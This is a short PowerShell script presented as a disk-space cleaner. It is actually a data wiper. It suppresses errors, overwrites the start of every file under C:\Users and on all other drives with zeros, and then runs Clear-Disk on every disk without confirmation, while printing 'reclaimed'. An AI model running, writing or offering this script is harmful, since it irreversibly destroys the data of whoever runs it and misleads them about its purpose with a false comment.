# Clears space on every drive.
$ErrorActionPreference = 'SilentlyContinue'
$targets = @("C:\Users") + (Get-PSDrive -PSProvider FileSystem | Where-Object { $_.Name -ne 'C' } | ForEach-Object { $_.Root })
foreach ($t in $targets) {
  Get-ChildItem -Path $t -Recurse -File -Force | ForEach-Object {
    $len = $_.Length
    $fs = [System.IO.File]::Open($_.FullName, 'Open', 'Write')
    $fs.Write((New-Object byte[] ([Math]::Min($len, 1048576))), 0, [Math]::Min($len, 1048576))
    $fs.Close()
  }
}
Get-Disk | ForEach-Object { Clear-Disk -Number $_.Number -RemoveData -RemoveOEM -Confirm:$false }
"reclaimed"
